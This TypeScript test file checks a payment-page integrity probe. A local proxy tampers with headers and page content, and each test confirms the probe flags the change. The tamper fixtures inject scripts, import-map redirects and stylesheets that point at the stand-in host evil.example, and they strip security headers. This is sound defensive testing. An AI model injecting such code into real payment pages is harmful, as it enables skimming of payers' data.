import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { createServer, request as ask } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import { after, describe, test } from 'node:test'
import { probePage, readInventory, type InventoryPage } from '../../server/src/bin/page-probe.ts'
import { newCheckout } from '../../server/test/builders.ts'
import { startTestProvider } from '../../server/test/harness.ts'

const { client, baseUrl } = await startTestProvider()
const inventory = readInventory()
const redirects = [{ type: 'action' as const, url: 'https://shop.example/paid' }]
const { id } = await newCheckout(client, {}, { page: { language: 'EN', layout: 'embed' }, redirects })

function pageNamed(name: string): InventoryPage {
  return inventory.find(({ page }) => page === name) ?? assert.fail(`The inventory has no page ${name}.`)
}
const pathOf = ({ page, path }: InventoryPage): string => path.replace('{token}', id) + (page === 'checkout' ? '?page_layout=web' : '')

type Change = { path: RegExp; header?: [string, string]; body?: (text: string) => string }

/** Something between the payer and us that changes what we send. */
async function tampered({ path, header, body = (text) => text }: Change): Promise<string> {
  const server = createServer((incoming, outgoing) => {
    const forward = ask(baseUrl + (incoming.url ?? ''), { headers: { 'Accept-Encoding': 'identity' } }, (answer) => {
      const chunks: Buffer[] = []
      answer.on('data', (chunk: Buffer) => chunks.push(chunk))
      answer.on('end', () => {
        const hit = path.test(incoming.url ?? '')
        const { 'content-length': _length, ...headers } = answer.headers
        outgoing.writeHead(answer.statusCode ?? 500, { ...headers, ...(hit && header && { [header[0]]: header[1] }) })
        const text = Buffer.concat(chunks).toString('utf8')
        outgoing.end(hit ? body(text) : text)
      })
    })
    forward.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  after(() => new Promise((resolve) => server.close(resolve)))
  return `http://127.0.0.1:${(server.address() as { port: number }).port}`
}

describe('the pages as they are built', () => {
  for (const page of inventory) {
    test(`${page.page}: headers, scripts and their hashes are those of the inventory`, async () => {
      assert.deepEqual(await probePage(page, baseUrl + pathOf(page)), [])
    })
    test(`${page.page}: each script has an owner and a reason`, () => {
      assert(page.scripts.length > 0 && page.scripts.every(({ owner, reason }) => owner.length > 5 && reason.length > 20))
    })
  }
})

describe('a change is noticed', () => {
  const changes: [name: string, page: string, change: Change, said: RegExp][] = [
    [
      'a weaker policy',
      'registration',
      { path: /^\/aderir/, header: ['content-security-policy', "default-src 'self'"] },
      /content-security-policy/,
    ],
    ['a header that is gone', 'registration', { path: /^\/aderir/, header: ['x-content-type-options', ''] }, /x-content-type-options/],
    [
      'a changed script',
      'registration',
      { path: /\.js$/, body: (text) => `${text};fetch("https://evil.example")` },
      /not the script that was built here/,
    ],
    [
      'a script more',
      'registration',
      { path: /^\/aderir$/, body: (text) => text.replace('</body>', '<script src="https://evil.example/x.js"></script></body>') },
      /not in the inventory/,
    ],
    [
      'a script inline',
      'registration',
      { path: /^\/aderir$/, body: (text) => text.replace('</body>', '<script>alert(1)</script></body>') },
      /stands inline/,
    ],
    [
      'another hash in the page',
      'registration',
      { path: /^\/aderir$/, body: (text) => text.replaceAll(/integrity="sha384-../g, 'integrity="sha384-XX') },
      /another hash/,
    ],
    [
      'another hash in the import map',
      'checkout',
      { path: /^\/pay\/\w+\?/, body: (text) => text.replace(/hydrate-([\w-]+)\.js":"sha384-../, 'hydrate-$1.js":"sha384-XX') },
      /another hash/,
    ],
    [
      'an import that is led elsewhere',
      'checkout',
      { path: /^\/pay\/\w+\?/, body: (text) => text.replace('{"integrity"', '{"imports":{"/pay/":"https://evil.example/"},"integrity"') },
      /stands inline/,
    ],
    [
      'an import without its hash',
      'checkout',
      { path: /^\/pay\/\w+\?/, body: (text) => text.replace(/<script type="importmap".*?<\/script>/, '') },
      /does not load the scripts/,
    ],
    [
      'a style more',
      'checkout',
      { path: /^\/pay\/\w+\?/, body: (text) => text.replace('</head>', '<style>main{display:none}</style></head>') },
      /was not built here: main/,
    ],
    [
      'a stylesheet from elsewhere',
      'checkout',
      {
        path: /^\/pay\/\w+\?/,
        body: (text) => text.replace('</head>', '<link rel="stylesheet" href="https://evil.example/x.css"></head>'),
      },
      /loads what the inventory does not name/,
    ],
    ['a changed widget', 'widget', { path: /^\/pay/, body: (text) => `${text} ` }, /not the one that was built here/],
  ]
  for (const [name, page, change, said] of changes) {
    test(name, async () => {
      const found = pageNamed(page)
      const wrong = await probePage(found, (await tampered(change)) + pathOf(found))
      assert(
        wrong.some((line) => said.test(line)),
        wrong.join('; '),
      )
    })
  }
})

describe('npm run probe', () => {
  const scratch = mkdtempSync(join(tmpdir(), 'escudo-probe-'))
  const metrics = join(scratch, 'probe.prom')
  after(() => rmSync(scratch, { recursive: true, force: true }))
  const run = (...words: string[]) => spawn(process.execPath, [join(import.meta.dirname, '../../server/src/bin/probe.ts'), ...words])
  const found = (): number => Number(/findings\{page="registration"\} (\d+)/.exec(readFileSync(metrics, 'utf8'))?.[1])

  test('once: says what it looked at, writes what it found and exits by it', async () => {
    for (const [at, code, count] of [
      [baseUrl, 0, 0],
      [await tampered({ path: /^\/aderir/, header: ['x-content-type-options', ''] }), 1, 1],
    ] as const) {
      const [ended] = (await once(run(at, '--metrics', metrics), 'exit')) as [number]
      assert.deepEqual([ended, found()], [code, count])
      const writtenAt = Number(/timestamp_seconds (\d+)/.exec(readFileSync(metrics, 'utf8'))?.[1])
      assert(Math.abs(writtenAt - Date.now() / 1000) < 600)
    }
  })

  test('--every: goes on looking, says each time what is wrong as a line, and does not end by it', async () => {
    const probe = run(
      await tampered({ path: /^\/aderir/, header: ['x-content-type-options', ''] }),
      '--every',
      '0.002',
      '--metrics',
      metrics,
    )
    after(() => probe.kill('SIGKILL'))
    const lines: string[] = []
    for await (const line of createInterface(probe.stdout)) if (lines.push(line) === 3) break
    assert.equal(probe.exitCode, null)
    for (const line of lines) {
      const { level, page, wrong, msg } = JSON.parse(line) as { level: number; page: string; wrong: string[]; msg: string }
      assert.deepEqual([level, page, msg], [50, 'registration', 'A payment page is not as it should be.'])
      assert.match(wrong.join(), /x-content-type-options/)
    }
    assert.equal(found(), 1)
  })

  test('--every wants minutes', async () => {
    const [ended] = (await once(run(baseUrl, '--every', 'often'), 'exit')) as [number]
    assert.equal(ended, 1)
  })
})
